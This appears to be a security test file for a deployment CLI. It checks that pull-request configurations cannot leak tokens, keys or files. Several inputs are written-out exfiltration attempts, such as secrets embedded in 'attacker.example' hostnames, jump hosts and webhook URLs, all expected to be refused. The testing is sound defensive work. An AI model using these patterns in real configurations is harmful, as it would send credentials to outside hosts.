/**
 * Whoever proposes a configuration: rulings 2, 22 and 31. Somebody opens a pull request that changes lockstep.yaml; CI,
 * or a colleague, runs `lockstep plan` with their own environment and files. The real command line against a real
 * server and real kinds of targets; a listener on loopback plays the address that the proposer chose, every byte between
 * command line and server is kept, and every name that this process looks up.
 */
import { generateKeyPairSync } from "node:crypto";
import dns from "node:dns";
import { once } from "node:events";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { syncBuiltinESMExports } from "node:module";
import { type AddressInfo, connect, createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { railwayKind } from "../../src/adapters/targets/railway/target.ts";
import { sshKind } from "../../src/adapters/targets/ssh/target.ts";
import { LOCAL_ADMIN_SCOPES } from "../../src/core/access/permissions.ts";
import { INSTANT, type RailwaySimulator, startRailwaySimulator } from "../../src/simulator/railway/server.ts";
import { type Ran, type RunOptions, runCli } from "../support/cli-kit.ts";
import { useDatabase } from "../support/database.ts";
import { createHttpKit, type HttpKit } from "../support/http-kit.ts";
import { createLoopKit, type LoopKit } from "../support/loop-kit.ts";

const TOKEN = "canary-91c4-railway-token";
const CI_SECRET = "canary-91c4-ci-secret";
const FILE = "canary-91c4-file-content";
const HOST_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJdD7y3aLq454yWBdwLWbieU1ebz9/cu7/QEXn9OIeZJ";
const SSH_KEY = generateKeyPairSync("ec", { namedCurve: "P-256" })
  .privateKey.export({ format: "pem", type: "sec1" })
  .toString();

/** As lockstep.yaml writes them. */
const env = (name: string) => `\${env:${name}}`;
const file = (path: string) => `\${file:${path}}`;

const getDatabase = useDatabase();
let loop: LoopKit;
let http: HttpKit;
/** Between command line and server: every byte, both ways. */
let line: Server;
let passed = "";
let railway: RailwaySimulator;
let service: string;
let chosen: Server;
let directory: string;
let admin: string;
let planner: string;
/** To the address that the proposer chose. */
let connections = 0;
const lookedUp: string[] = [];
const { lookup } = dns;
const { lookup: lookupLater } = dns.promises;

beforeAll(async () => {
  const watched =
    (ask: (...args: never[]) => unknown) =>
    (...args: never[]) => {
      lookedUp.push(String(args[0]));
      return ask(...args);
    };
  dns.lookup = watched(lookup as never) as unknown as typeof dns.lookup;
  dns.promises.lookup = watched(lookupLater as never) as unknown as typeof dns.promises.lookup;
  syncBuiltinESMExports();

  loop = createLoopKit(getDatabase());
  const kinds = [railwayKind, sshKind];
  http = await createHttpKit(loop.other({ targetKinds: new Map(kinds.map((kind) => [kind.kind, kind])) }));
  const { port: upstream } = new URL((await http.server.listen(0)).url);
  line = createServer((near) => {
    const far = connect(Number(upstream), "127.0.0.1");
    near.on("data", (chunk: Buffer) => {
      const text = chunk.toString("latin1");
      passed += text;
      // The server answers by its own name alone.
      far.write(text.replace(/^host: .*$/im, `host: 127.0.0.1:${upstream}`), "latin1");
    });
    far.on("data", (chunk: Buffer) => {
      passed += chunk.toString("latin1");
      near.write(chunk);
    });
    near.on("error", () => far.destroy()).on("close", () => far.destroy());
    far.on("error", () => near.destroy()).on("close", () => near.destroy());
  }).listen(0, "127.0.0.1");
  await once(line, "listening");
  railway = await startRailwaySimulator({ durations: INSTANT, defaults: { projectToken: TOKEN } });
  service = (await railway.state.addService({ name: "api", variables: { API_KEY: "in use" } })).serviceId;
  chosen = createServer((socket) => {
    connections += 1;
    socket.destroy();
  }).listen(0, "127.0.0.1");
  await once(chosen, "listening");
  directory = await mkdtemp(join(tmpdir(), "lockstep-proposed-"));
  await writeFile(join(directory, "credentials"), `${FILE}\n`);
});
afterAll(async () => {
  dns.lookup = lookup;
  dns.promises.lookup = lookupLater;
  syncBuiltinESMExports();
  line.close();
  await http.server.close();
  await railway.close();
  chosen.close();
  await rm(directory, { recursive: true });
});
beforeEach(async () => {
  await loop.reset();
  admin = await http.token(...LOCAL_ADMIN_SCOPES);
  planner = await http.token("plan");
  connections = 0;
  passed = "";
  lookedUp.length = 0;
});

const port = () => (chosen.address() as AddressInfo).port;
async function lockstep(words: string, text: string, options: RunOptions = {}): Promise<Ran> {
  const path = join(directory, "lockstep.yaml");
  await writeFile(path, text);
  const around = {
    LOCKSTEP_URL: `http://127.0.0.1:${(line.address() as AddressInfo).port}`,
    LOCKSTEP_TOKEN: planner,
    RAILWAY_TOKEN: TOKEN,
    CI_SECRET,
    SSH_KEY,
  };
  return runCli([...words.split(" "), "-f", path], { ...options, env: { ...around, ...options.env } });
}
const asAdmin = () => ({ env: { LOCKSTEP_TOKEN: admin } });

type Parts = Readonly<Record<string, unknown>>;
function config({ binding = {}, api, alerts }: { binding?: Parts; api: Parts; alerts?: Parts }): string {
  const parts = {
    secrets: { API_KEY: { bindings: [{ target: "api", role: "both", ...binding }] } },
    targets: { api },
    ...(alerts === undefined ? {} : { alerts }),
  };
  // JSON is YAML; a line for each part, so that lines can be told.
  return Object.entries(parts)
    .map(([key, part]) => `${key}: ${JSON.stringify(part)}\n`)
    .join("");
}
const railwayTarget = (parts: Parts = {}) => {
  const { projectId: project, environmentId: environment } = railway.defaults;
  return {
    railway: { project, environment, service, endpoint: railway.url, token: env("RAILWAY_TOKEN"), ...parts },
  };
};
const moved = (parts: Parts = {}) => railwayTarget({ endpoint: `http://127.0.0.1:${port()}/`, ...parts });
const host = (parts: Parts = {}) => ({
  ssh: {
    host: "127.0.0.1",
    port: port(),
    user: "deploy",
    hostKey: HOST_KEY,
    privateKey: env("SSH_KEY"),
    ...parts,
  },
  files: [{ path: "/etc/app/env", format: "dotenv" }],
});
const probe = (url: string) => ({
  probe: { http: { url, headers: { X: "{{value}}" }, accepted: [200], refused: [401] } },
});

function nothingLeft(): void {
  expect(connections).toBe(0);
  expect(lookedUp.filter((name) => !/^(?:127\.0\.0\.1|localhost)$/.test(name))).toEqual([]);
  for (const canary of [TOKEN, CI_SECRET, FILE, "PRIVATE KEY"]) expect(passed).not.toContain(canary);
}

describe("ruling 31: an address that somebody proposes", () => {
  it.each([
    ["a variable", () => moved()],
    ["another variable than before", () => moved({ token: env("CI_SECRET") })],
    ["a file", () => moved({ token: file("credentials") })],
    ["a file as a key", () => host({ privateKey: file("credentials") })],
    ["a key towards a name", () => host({ host: "ci-secret.attacker.example", port: 22 })],
    ["a jump host", () => host({ jump: { ...host().ssh, host: "jump.attacker.example" } })],
  ])("gets no request, no look-up and no credential by plan: %s", async (_what, api) => {
    passed = "";
    const ran = await lockstep("plan", config({ api: api() }));
    expect(ran.exitCode).toBe(2);
    expect(ran.stdout).toContain("not asked before apply");
    nothingLeft();
  });

  it("gets no credential that belongs to the address or the pin before", async () => {
    expect((await lockstep("apply --yes", config({ api: railwayTarget() }), asAdmin())).exitCode).toBe(0);
    passed = "";
    const ran = await lockstep("plan", config({ api: moved() }));
    expect(ran.stdout).toContain("target production/api (changed)");
    nothingLeft();

    expect((await lockstep("apply --yes --allow-shrink", config({ api: host() }), asAdmin())).exitCode).toBe(
      0,
    );
    passed = "";
    const hostKey = HOST_KEY.replace("dD7y3a", "dD7y3b");
    expect((await lockstep("plan", config({ api: host({ hostKey }) }))).stdout).toContain(
      "not asked before apply",
    );
    nothingLeft();
  });

  it("gets nothing from requests that go around the command line", async () => {
    const ask = (path: string, body: object) =>
      http.ask(`/api/v1/${path}`, { method: "POST", token: planner, body });
    const targets = { api: moved({ token: "given-by-the-proposer" }) };
    const secrets = { API_KEY: { bindings: [{ target: "api", role: "both" }] } };
    const proposed = { environments: { production: { secrets, targets } } };
    expect(await ask("plan", { config: proposed })).toMatchObject({ status: 200 });
    expect(await ask("plan/destinations", { config: proposed })).toMatchObject({ status: 200 });
    expect(await ask("plan", { config: proposed, askNew: true })).toMatchObject({ status: 403 });
    expect(await ask("apply", { config: proposed })).toMatchObject({ status: 403 });
    expect(await ask("try-target", { target: targets.api })).toMatchObject({ status: 403 });
    expect(connections).toBe(0);
  });

  it("is asked by whoever may apply, with --ask-new; then these guards see it", async () => {
    const refused = await lockstep("plan --ask-new", config({ api: moved() }));
    expect(refused.exitCode).toBe(1);
    expect(refused.stderr).toContain("config.apply");
    expect(connections).toBe(0);
    passed = "";
    await lockstep("plan --ask-new", config({ api: moved() }), asAdmin());
    expect(connections).toBeGreaterThan(0);
    expect(passed).toContain(TOKEN);
    await lockstep("plan --ask-new", config({ api: host({ host: "nowhere.invalid" }) }), asAdmin());
    expect(lookedUp).toContain("nowhere.invalid");
  });
});

describe("ruling 31: a place that was applied", () => {
  it("is asked with its applied credential, whatever reference is proposed for it", async () => {
    await lockstep("apply --yes", config({ api: railwayTarget() }), asAdmin());
    const before = railway.simulation.log.requests().length;
    const ran = await lockstep("plan", config({ api: railwayTarget({ token: env("CI_SECRET") }) }));
    expect(ran.stdout).toContain("change target production/api (credential)");
    expect(ran.stdout).toContain("a value (A)");
    const tokens = railway.simulation.log.requests().slice(before);
    expect([...new Set(tokens.map(({ token }) => token))]).toEqual(["project"]);
  });

  it("is planned in CI, which has none of its credentials", async () => {
    await lockstep("apply --yes", config({ api: railwayTarget() }), asAdmin());
    const ran = await lockstep("plan", config({ api: railwayTarget() }), {
      env: { RAILWAY_TOKEN: undefined },
    });
    expect(ran.exitCode).toBe(0);
    expect(ran.stderr).toMatch(/not compared[\s\S]*RAILWAY_TOKEN, which is not set/);
    expect(ran.stdout).toContain("a value (A)");
  });
});

describe("ruling 2: references stand in credential fields alone", () => {
  const mixed = `${file("credentials")}-${env("CI_SECRET")}`;
  const spread = `https://${env("CI_SECRET")}.attacker.example/`;
  it.each([
    ["mixed with another", () => config({ api: moved({ token: mixed }) })],
    ["in an endpoint", () => config({ api: railwayTarget({ endpoint: spread }) })],
    ["in a host", () => config({ api: host({ host: `${env("CI_SECRET")}.attacker.example` }) })],
    ["in a path", () => config({ api: { ...host(), alsoCheck: [`/tmp/${file("credentials")}`] } })],
    ["in a probe", () => config({ api: railwayTarget(), binding: probe(spread) })],
    [
      "in a template",
      () => config({ api: railwayTarget(), binding: { template: `{{value}}${env("CI_SECRET")}` } }),
    ],
    ["as a name", () => config({ api: railwayTarget({ [env("CI_SECRET")]: "x" }) })],
    [
      "in a channel's address",
      () =>
        config({
          api: railwayTarget(),
          alerts: { ops: { webhook: { url: spread, secret: env("CI_SECRET") } } },
        }),
    ],
  ])("%s: refused with file and line before anything is sent", async (_what, text) => {
    passed = "";
    const ran = await lockstep("plan", text());
    expect(ran.exitCode).toBe(64);
    expect(ran.stderr).toMatch(
      /error CONFIG_INVALID[\s\S]*lockstep\.yaml:\d+:\d+ .*(?:only credentials may|mixes a reference|in a name)/,
    );
    expect(`${ran.stdout}${ran.stderr}`).not.toContain("canary");
    expect(passed).toBe("");
    nothingLeft();
  });
});

describe("ruling 31: what sends values and alerts", () => {
  it("a proposed probe is not asked by plan, and apply names where the value would go", async () => {
    const url = `http://127.0.0.1:${port()}/ask`;
    await lockstep("apply --yes", config({ api: railwayTarget() }), asAdmin());
    const proposed = config({ api: railwayTarget(), binding: probe(url) });
    const told = `lockstep.yaml:1 probe of production/API_KEY (new): sends the value to ${url}`;
    expect((await lockstep("plan", proposed)).stdout).toContain(told);
    const no = await lockstep("apply", proposed, { ...asAdmin(), types: "n\n" });
    expect(no.stdout).toContain(told);
    expect(connections).toBe(0);
  });

  it("a webhook's address, which is a credential, stays unless its origin is the applied one", async () => {
    const withHook = (name: string) =>
      config({ api: railwayTarget(), alerts: { ops: { slack: { url: env(name) } } } });
    const HOOK = `https://hooks.example.com/services/${CI_SECRET}`;
    passed = "";
    const fresh = await lockstep("plan", withHook("HOOK"), { env: { HOOK } });
    expect(fresh.stdout).toContain(
      `alert channel ops (new): where the credential itself says, with ${env("HOOK")}`,
    );
    nothingLeft();

    await lockstep("apply --yes", withHook("HOOK"), { env: { LOCKSTEP_TOKEN: admin, HOOK } });
    expect((await lockstep("plan", withHook("HOOK"), { env: { HOOK } })).exitCode).toBe(0);
    passed = "";
    const OTHER = `https://attacker.example/${FILE}`;
    const elsewhere = await lockstep("plan", withHook("OTHER"), { env: { OTHER } });
    expect(elsewhere.stdout).toContain("change alert channel ops");
    expect(passed).not.toContain(FILE);
  });
});

it("ruling 31: apply names new destinations and their references before it asks; a no sends nothing", async () => {
  const no = await lockstep("apply", config({ api: moved() }), { ...asAdmin(), types: "n\n" });
  expect(no.exitCode).toBe(1);
  const address = `railway http://127.0.0.1:${port()}/`;
  expect(no.stdout).toMatch(
    new RegExp(
      `lockstep.yaml:2 target production/api \\(new\\): ${address} .*, with \\$\\{env:RAILWAY_TOKEN\\}`,
    ),
  );
  nothingLeft();
});
